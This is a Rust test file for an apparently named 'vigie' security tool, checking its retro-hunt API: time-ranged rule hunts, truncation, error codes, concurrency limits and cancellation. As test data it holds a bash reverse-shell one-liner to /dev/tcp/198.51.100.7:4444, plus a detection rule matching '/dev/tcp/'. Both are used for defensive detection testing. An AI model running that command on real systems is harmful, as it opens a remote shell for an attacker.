//! Retro-hunts through the routes: events stored through `/v1/batches` at known times, hunted
//! by YAML and by rule id; only the matching events of `[from, to)` come back, routed by
//! their logsource tags as live detection routes them; progress adds up over several chunks;
//! `max_matches` truncates; bad requests name what is wrong; at most two hunts run; a running
//! hunt is cancelled, an ended one forgotten.

// Test code: a failed unwrap is a failed test.
#![allow(clippy::unwrap_used)]

use std::sync::Arc;
use std::time::Duration;

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use chrono::{DateTime, Utc};
use serde_json::{json, Value};

use super::tests::{harness, Harness, TOKEN};
use crate::config::IngestConfig;
use crate::hunts::{load_rule, HuntRule, HuntSpec, CHUNK_EVENTS};
use crate::listener::Peer;

const RULE: &str = "title: Reverse shell through /dev/tcp
id: vigie-test-hunt-revshell
logsource: {product: linux, category: process_creation}
detection:
  sel: {process.command_line|contains: '/dev/tcp/'}
  condition: sel
level: high
";

const CORRELATION: &str = "title: Many reverse shells
id: vigie-test-hunt-many
correlation:
  type: event_count
  rules: [vigie-test-hunt-revshell]
  group-by: [host.name]
  timespan: 5m
  condition: {gte: 3}
level: critical
";

/// The end of the hunted range; events are placed around it.
const T0: &str = "2026-03-10T12:00:00Z";

fn t0() -> DateTime<Utc> {
    DateTime::parse_from_rfc3339(T0)
        .unwrap()
        .with_timezone(&Utc)
}

fn at(minutes_before_t0: i64) -> String {
    (t0() - chrono::Duration::minutes(minutes_before_t0)).to_rfc3339()
}

/// One event line: `name` is its message, `product` its logsource tag.
fn event(name: &str, minutes_before_t0: i64, host: &str, cmd: &str, product: &str) -> String {
    json!({
        "@timestamp": at(minutes_before_t0),
        "message": name,
        "host": {"name": host},
        "process": {"command_line": cmd},
        "vigie": {"logsource": {"product": product, "category": "process_creation"}},
    })
    .to_string()
        + "\n"
}

const SHELL: &str = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1";

/// Stores the scenario; the matches of `[T0-150m, T0)`, newest first, are
/// `hit-30`, `hit-60`, `hit-90` and `hit-120`.
async fn store_scenario(h: &Harness, peer: &Peer) {
    let mut body = String::new();
    // Matching, but outside the range: before `from`, and at `to` (excluded).
    body += &event("early", 180, "web-1", SHELL, "linux");
    body += &event("at-to", 0, "web-1", SHELL, "linux");
    // Matching, inside.
    body += &event("hit-120", 120, "web-1", SHELL, "linux");
    body += &event("hit-90", 90, "web-2", SHELL, "linux");
    body += &event("hit-60", 60, "web-1", SHELL, "linux");
    body += &event("hit-30", 30, "web-2", SHELL, "linux");
    // Inside, not matching: another command line, or tagged for another logsource.
    for i in 0..6 {
        body += &event(
            &format!("quiet-{i}"),
            100 - i * 10,
            "web-1",
            "ls -la /tmp",
            "linux",
        );
    }
    body += &event("windows", 45, "web-1", SHELL, "windows");
    let (status, ack) = h.lines(peer, "s1/1", body).await;
    assert_eq!(status, StatusCode::OK, "{ack}");
    assert_eq!(ack["accepted"], 13, "{ack}");
}

fn messages(hunt: &Value) -> Vec<String> {
    hunt["matches"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["message"].as_str().unwrap().to_owned())
        .collect()
}

impl Harness {
    async fn start_hunt(&self, body: Value) -> (StatusCode, Value) {
        self.send_json("POST", "/api/v1/hunts", body).await
    }

    /// Polls the hunt until it is no longer running (bounded wait).
    async fn finished(&self, id: &str) -> Value {
        for _ in 0..3000 {
            let hunt = self.get(&format!("/api/v1/hunts/{id}")).await;
            if hunt["status"] != "running" {
                return hunt;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        panic!("hunt {id} still running after a minute");
    }

    async fn hunt_to_end(&self, body: Value) -> Value {
        let (status, started) = self.start_hunt(body).await;
        assert_eq!(status, StatusCode::ACCEPTED, "{started}");
        assert_eq!(started["status"], "running");
        let id = started["id"].as_str().unwrap();
        assert!(id.starts_with("hunt_"), "{id}");
        self.finished(id).await
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_yaml_hunt_returns_the_matching_events_of_the_range_only() {
    let h = harness(IngestConfig::default());
    let peer = h.agent("agt_a", true);
    store_scenario(&h, &peer).await;

    let hunt = h
        .hunt_to_end(json!({"rule": RULE, "from": at(150), "to": T0}))
        .await;
    assert_eq!(hunt["status"], "done", "{hunt}");
    assert_eq!(
        hunt["rule"],
        json!({"id": "vigie-test-hunt-revshell", "title": "Reverse shell through /dev/tcp", "level": "high"})
    );
    assert_eq!(messages(&hunt), ["hit-30", "hit-60", "hit-90", "hit-120"]);
    assert_eq!(hunt["total"], 11, "events in range: {hunt}");
    assert_eq!(hunt["scanned"], 11, "{hunt}");
    assert_eq!(hunt["matches_total"], 4);
    assert_eq!(hunt["truncated"], false);
    assert_eq!(hunt["error"], Value::Null);
    assert!(hunt["finished_at"].is_string(), "{hunt}");
    let from: DateTime<Utc> = serde_json::from_value(hunt["from"].clone()).unwrap();
    let to: DateTime<Utc> = serde_json::from_value(hunt["to"].clone()).unwrap();
    assert_eq!((t0() - from).num_minutes(), 150);
    assert_eq!(to, t0());
    // A match comes back as stored.
    assert_eq!(hunt["matches"][0]["process"]["command_line"], SHELL);

    // The pre-filter narrows what is scanned.
    let narrowed = h
        .hunt_to_end(json!({"rule": RULE, "from": at(150), "to": T0, "query": "host.name:web-2"}))
        .await;
    assert_eq!(messages(&narrowed), ["hit-30", "hit-90"], "{narrowed}");
    assert_eq!(narrowed["total"], 2);
    assert_eq!(narrowed["scanned"], 2);

    // max_matches keeps the newest and says the rest was left out.
    let truncated = h
        .hunt_to_end(json!({"rule": RULE, "from": at(150), "to": T0, "max_matches": 2}))
        .await;
    assert_eq!(messages(&truncated), ["hit-30", "hit-60"]);
    assert_eq!(truncated["matches_total"], 4);
    assert_eq!(truncated["truncated"], true);

    // The list shows the three, newest first, without their matches.
    let list = h.get("/api/v1/hunts").await;
    let items = list["items"].as_array().unwrap();
    assert_eq!(items.len(), 3, "{list}");
    assert_eq!(items[0]["id"], truncated["id"]);
    assert_eq!(items[2]["id"], hunt["id"]);
    assert!(items.iter().all(|i| i.get("matches").is_none()), "{list}");
    assert_eq!(items[0]["matches_total"], 4);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rule_of_the_pack_is_hunted_by_id() {
    let h = harness(IngestConfig::default());
    let req = Request::post("/api/v1/rules")
        .header(header::AUTHORIZATION, format!("Bearer {TOKEN}"))
        .header(header::CONTENT_TYPE, "application/yaml")
        .body(Body::from(RULE))
        .unwrap();
    let (status, _, body) = h.call(req).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let peer = h.agent("agt_a", true);
    store_scenario(&h, &peer).await;

    let hunt = h
        .hunt_to_end(json!({"rule_id": "vigie-test-hunt-revshell", "from": at(150), "to": T0}))
        .await;
    assert_eq!(hunt["status"], "done", "{hunt}");
    assert_eq!(hunt["rule"]["title"], "Reverse shell through /dev/tcp");
    assert_eq!(messages(&hunt), ["hit-30", "hit-60", "hit-90", "hit-120"]);
    assert_eq!(hunt["scanned"], 11);

    // A disabled rule of the pack can still be hunted.
    let (status, body) = h
        .send_json(
            "POST",
            "/api/v1/rules/vigie-test-hunt-revshell/disable",
            json!({}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let hunt = h
        .hunt_to_end(json!({"rule_id": "vigie-test-hunt-revshell", "from": at(150), "to": T0}))
        .await;
    assert_eq!(messages(&hunt), ["hit-30", "hit-60", "hit-90", "hit-120"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn progress_adds_up_over_several_chunks() {
    let h = harness(IngestConfig::default());
    let peer = h.agent("agt_a", true);
    let n = 2 * CHUNK_EVENTS as i64 + 300;
    let body: String = (0..n)
        .map(|i| {
            let cmd = if i % 100 == 0 { SHELL } else { "id" };
            // Spread over the 100 minutes before T0, a few events per second.
            let ts = (t0() - chrono::Duration::milliseconds(1 + i * 2_000)).to_rfc3339();
            json!({"@timestamp": ts, "message": format!("e{i}"), "process": {"command_line": cmd}})
                .to_string()
                + "\n"
        })
        .collect();
    let (status, ack) = h.lines(&peer, "s1/1", body).await;
    assert_eq!(status, StatusCode::OK, "{ack}");

    let hunt = h
        .hunt_to_end(
            json!({"rule": RULE, "from": "2026-03-10T00:00:00Z", "to": T0, "max_matches": 5}),
        )
        .await;
    assert_eq!(hunt["status"], "done", "{hunt}");
    assert_eq!(hunt["total"], n);
    assert_eq!(hunt["scanned"], n);
    assert_eq!(hunt["matches_total"], 23, "one event in 100 matches");
    assert_eq!(messages(&hunt), ["e0", "e100", "e200", "e300", "e400"]);
    assert_eq!(hunt["truncated"], true);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_requests_name_what_is_wrong() {
    let h = harness(IngestConfig::default());
    let cases = [
        (
            json!({"rule_id": "nope", "from": "now-1h"}),
            "unknown_rule",
            "nope",
        ),
        (
            json!({"rule": RULE.replace("|contains", "|nosuchmodifier"), "from": "now-1h"}),
            "invalid_rule",
            "nosuchmodifier",
        ),
        (
            json!({"rule": CORRELATION, "from": "now-1h"}),
            "not_one_rule",
            "a retro-hunt runs one detection rule",
        ),
        (
            json!({"rule": format!("{RULE}---\n{}", RULE.replace("revshell", "other")), "from": "now-1h"}),
            "not_one_rule",
            "2 detection rules",
        ),
        (
            json!({"rule": "", "from": "now-1h"}),
            "not_one_rule",
            "no detection rule",
        ),
        (
            json!({"rule": RULE, "rule_id": "x", "from": "now-1h"}),
            "bad_rule",
            "either",
        ),
        (json!({"from": "now-1h"}), "bad_rule", "either"),
        (
            json!({"rule": RULE, "from": "yesterday"}),
            "bad_time",
            "from=\"yesterday\"",
        ),
        (
            json!({"rule": RULE, "from": "now-1h", "to": "soon"}),
            "bad_time",
            "to=\"soon\"",
        ),
        (
            json!({"rule": RULE, "from": "now-1h", "to": "now-2h"}),
            "bad_time",
            "after",
        ),
        (
            json!({"rule": RULE, "from": "now-1h", "query": "host.name:(web"}),
            "bad_query",
            "query",
        ),
        (
            json!({"rule": RULE, "from": "now-1h", "max_matches": 10_001}),
            "bad_max_matches",
            "10000",
        ),
        (
            json!({"rule": RULE, "from": "now-1h", "max_matches": 0}),
            "bad_max_matches",
            "10000",
        ),
        (
            json!({"rule": RULE, "from": "now-1h", "limit": 5}),
            "bad_body",
            "limit",
        ),
    ];
    for (body, code, says) in cases {
        let (status, answer) = h.start_hunt(body.clone()).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{body}: {answer}");
        assert_eq!(answer["error"]["code"], code, "{body}: {answer}");
        let message = answer["error"]["message"].as_str().unwrap();
        assert!(message.contains(says), "{body}: {message}");
    }

    // A correlation of the pack is refused by id too.
    let req = Request::post("/api/v1/rules")
        .header(header::AUTHORIZATION, format!("Bearer {TOKEN}"))
        .header(header::CONTENT_TYPE, "application/yaml")
        .body(Body::from(format!("{RULE}---\n{CORRELATION}")))
        .unwrap();
    let (status, _, body) = h.call(req).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let (status, answer) = h
        .start_hunt(json!({"rule_id": "vigie-test-hunt-many", "from": "now-1h"}))
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{answer}");
    assert!(
        answer["error"]["message"]
            .as_str()
            .unwrap()
            .contains("a retro-hunt runs one detection rule"),
        "{answer}"
    );
    assert!(h.get("/api/v1/hunts").await["items"]
        .as_array()
        .unwrap()
        .is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn at_most_two_hunts_run_and_a_running_hunt_can_be_cancelled() {
    let h = harness(IngestConfig::default());
    let peer = h.agent("agt_a", true);
    store_scenario(&h, &peer).await;
    // Two hunts registered but not started yet: they count as running.
    let spec = || {
        let (set, rule) =
            load_rule(&h.state.central.pack(), &HuntRule::Yaml(RULE.to_owned())).unwrap();
        HuntSpec {
            rule,
            set,
            query_text: None,
            query: Default::default(),
            from: t0() - chrono::Duration::minutes(150),
            to: t0(),
            max_matches: 10,
        }
    };
    let first = h.state.hunts.register(spec()).unwrap();
    let _second = h.state.hunts.register(spec()).unwrap();
    let (status, answer) = h.start_hunt(json!({"rule": RULE, "from": at(150)})).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{answer}");
    assert_eq!(answer["error"]["code"], "too_many_hunts");

    // Cancelling a running hunt: asked now, seen by the worker at its next check.
    let path = format!("/api/v1/hunts/{}", first.id());
    let (status, answer) = h.send_json("DELETE", &path, json!({})).await;
    assert_eq!(status, StatusCode::ACCEPTED, "{answer}");
    assert_eq!(answer["status"], "running");
    assert_eq!(answer["cancel_requested"], true);
    let (worker, store) = (first.clone(), h.state.store.clone());
    tokio::task::spawn_blocking(move || worker.run(&store))
        .await
        .unwrap();
    let cancelled = h.get(&path).await;
    assert_eq!(cancelled["status"], "cancelled", "{cancelled}");
    assert_eq!(cancelled["scanned"], 0);
    assert_eq!(cancelled["matches"], json!([]));
    assert!(cancelled["finished_at"].is_string());

    // One slot is free again.
    let hunt = h
        .hunt_to_end(json!({"rule": RULE, "from": at(150), "to": T0}))
        .await;
    assert_eq!(hunt["matches_total"], 4, "{hunt}");

    // An ended hunt is forgotten.
    let (status, _) = h.send_json("DELETE", &path, json!({})).await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let (status, _) = h.send_json("DELETE", &path, json!({})).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let req = Request::get(path.as_str())
        .header(header::AUTHORIZATION, format!("Bearer {TOKEN}"))
        .body(Body::empty())
        .unwrap();
    let (status, _, _) = h.call(req).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

/// A hunt's rule gets the pack's field mappings: `CommandLine` reads `process.command_line`
/// with the shipped Linux mapping, and not without it.
#[test]
fn a_hunt_rule_is_loaded_with_the_packs_mappings() {
    let dir = tempfile::tempdir().unwrap();
    let db = Arc::new(crate::db::Db::open(&dir.path().join("vigie.db")).unwrap());
    let mapping =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/mappings/linux.yml");
    let cfg = crate::config::DetectionConfig {
        mappings: vec![mapping],
        ..Default::default()
    };
    let mapped = crate::central::Central::start(&cfg, db.clone()).unwrap();
    let bare = crate::central::Central::start(&Default::default(), db).unwrap();
    let rule = HuntRule::Yaml(RULE.replace("process.command_line", "CommandLine"));
    let event = json!({
        "process": {"command_line": SHELL},
        "vigie": {"logsource": {"product": "linux", "category": "process_creation"}},
    });
    let (set, _) = load_rule(&mapped.pack(), &rule).unwrap();
    assert_eq!(set.evaluate_value(&event).len(), 1);
    let (set, _) = load_rule(&bare.pack(), &rule).unwrap();
    assert!(set.evaluate_value(&event).is_empty());
}
